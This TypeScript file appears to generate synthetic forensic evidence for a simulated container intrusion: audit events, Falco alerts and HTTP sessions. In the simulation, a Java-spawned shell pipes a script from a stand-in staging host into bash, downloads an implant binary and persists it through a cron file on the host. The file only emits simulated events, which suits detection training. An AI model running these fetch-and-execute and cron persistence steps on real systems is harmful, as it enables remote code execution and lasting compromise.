import type { Micros } from '../../../src/base/time.ts';
import { at, dayEnd, millis, seconds } from '../base/clock.ts';
import { connectEvent, createFileEvent, execEvent } from '../host/audit-events.ts';
import { falcoAlert } from '../host/falco.ts';
import { cronRun } from '../host/logins.ts';
import { daemons, pidAt, rootProcess, type Process } from '../host/process.ts';
import type { Evidence } from '../model/evidence.ts';
import { createScene, type Scene } from '../model/scene.ts';
import { httpSession } from '../traffic/http.ts';
import { dockerHost, userAgents } from '../world/hosts.ts';
import { shopCommand } from '../world/processes.ts';
import { implant, staging, stagingHost } from './lair.ts';

const workingFolder = '/usr/local/tomcat';
const lowerLayer = 'EXE_WRITABLE|EXE_LOWER_LAYER';

/** The script's shell once the binary is there. */
export interface Foothold {
  readonly time: Micros;
  readonly bash: Process;
}

/** Java starts a shell that fetches a script; the script fetches the binary. */
export function playShell(evidence: Evidence, time: Micros): Foothold {
  const scene = createScene('intrusion shell', evidence, 'shell');
  const pid = pidAt(time, 'intruder');
  const command = `curl -fsSL http://${stagingHost}/a.sh | bash`;
  const shell = rootProcess(pid, daemons.shopJava, '/usr/bin/dash', 'sh');
  const args = ['/bin/sh', '-c', command];
  execEvent(scene, time, shell, { args, cwd: workingFolder, isInContainer: true });
  falcoAlert(scene, time, 'Run shell untrusted', {
    process: shell,
    eventType: 'execve',
    command: `sh -c ${command}`,
    parentName: 'java',
    before: [
      ['parent_exe', 'proc.pexe', shopCommand.args[0]],
      ['parent_exepath', 'proc.pexepath', shopCommand.executable],
      ['pcmdline', 'proc.pcmdline', shopCommand.args.join(' ').replace(shopCommand.args[0], 'java')],
      ['gparent', 'proc.aname[2]', 'containerd-shim'],
      ['ggparent', 'proc.aname[3]', 'systemd'],
      ['aname[4]', 'proc.aname[4]', null],
      ['aname[5]', 'proc.aname[5]', null],
      ['aname[6]', 'proc.aname[6]', null],
      ['aname[7]', 'proc.aname[7]', null],
    ],
    executableFlags: lowerLayer,
    container: true,
  });
  const scriptAt = fetch(scene, time + millis(6), rootProcess(pid + 1, pid, '/usr/bin/curl'), 'sh', {
    args: ['curl', '-fsSL', `http://${stagingHost}/a.sh`],
    target: '/a.sh',
    bytes: 911,
    contentType: 'application/x-sh',
    mime: 'text/x-shellscript',
  });
  const bash = rootProcess(pid + 2, pid, '/usr/bin/bash');
  execEvent(scene, time + millis(7), bash, { args: ['bash'], cwd: workingFolder, isInContainer: true });
  runTools(scene, scriptAt + millis(9), bash);
  const later = pidAt(scriptAt + seconds(1), 'intruder');
  const binaryAt = fetch(scene, scriptAt + seconds(1), rootProcess(later, bash.pid, '/usr/bin/curl'), 'bash', {
    args: ['curl', '-fsSLo', implant.containerPath, `http://${stagingHost}/sysd`],
    target: '/sysd',
    bytes: 3_211_264,
    contentType: 'application/octet-stream',
    mime: 'application/x-executable',
  });
  return { time: binaryAt, bash };
}

interface Download {
  readonly args: readonly string[];
  readonly target: string;
  readonly bytes: number;
  readonly contentType: string;
  readonly mime: string;
}

function fetch(scene: Scene, time: Micros, curl: Process, parentName: string, what: Download): Micros {
  execEvent(scene, time, curl, { args: what.args, cwd: workingFolder, isInContainer: true });
  falcoAlert(scene, time, 'Launch Ingress Remote File Copy Tools in Container', {
    process: curl,
    eventType: 'execve',
    command: what.args.join(' '),
    parentName,
    executableFlags: lowerLayer,
    container: true,
  });
  const [exchange] = httpSession(scene, {
    time: time + millis(24),
    client: dockerHost.ip,
    server: staging.address,
    port: staging.httpPort,
    host: stagingHost,
    userAgent: userAgents.curl,
    thinkMicros: millis(2),
    requests: [{ target: what.target, responseBytes: what.bytes, contentType: what.contentType, mime: what.mime }],
  });
  if (exchange === undefined) throw new Error('a session has at least one exchange');
  connectEvent(scene, exchange.flow, curl, { args: what.args, waits: false, descriptor: 3 });
  return exchange.answeredAt;
}

function runTools(scene: Scene, time: Micros, bash: Process): void {
  const tools = [['id'], ['uname', '-a'], ['mkdir', '-p', '/opt/shop/data/.cache']];
  for (const [index, args] of tools.entries()) {
    const executable = `/usr/bin/${args[0] ?? 'id'}`;
    execEvent(scene, time + millis(index * 9), rootProcess(bash.pid + 1 + index, bash.pid, executable), {
      args,
      cwd: workingFolder,
      isInContainer: true,
    });
  }
}

/** The script writes a cron file through the mount; the host's cron starts the binary twice an hour. Returns its process. */
export function playPersistence(evidence: Evidence, foothold: Foothold): Process {
  const scene = createScene('intrusion persistence', evidence, 'persistence');
  const { bash } = foothold;
  const time = foothold.time + millis(40);
  const args = ['chmod', '755', implant.containerPath];
  const chmod = rootProcess(pidAt(time, 'intruder', 4), bash.pid, '/usr/bin/chmod');
  execEvent(scene, time, chmod, { args, cwd: workingFolder, isInContainer: true });
  createFileEvent(scene, time + millis(11), bash, {
    args: ['bash'],
    cwd: workingFolder,
    name: implant.cronContainerPath,
    hostPath: implant.cronHostPath,
    key: 'cron',
  });
  const first = startByCron(scene, at('11:07:01'), true);
  for (let run = at('11:37:01'); run < dayEnd; run += seconds(1800)) startByCron(scene, run, false);
  return first;
}

/** The first goes on; the later ones find it running and end. */
function startByCron(scene: Scene, time: Micros, isEndless: boolean): Process {
  return cronRun(scene, time + millis(scene.rng.integer(20, 900)), 'intruder', {
    command: `${implant.hostPath} >/dev/null 2>&1`,
    process: { executable: implant.hostPath, exec: { args: [implant.hostPath], isStatic: true } },
    durationMicros: millis(220),
    isEndless,
  });
}
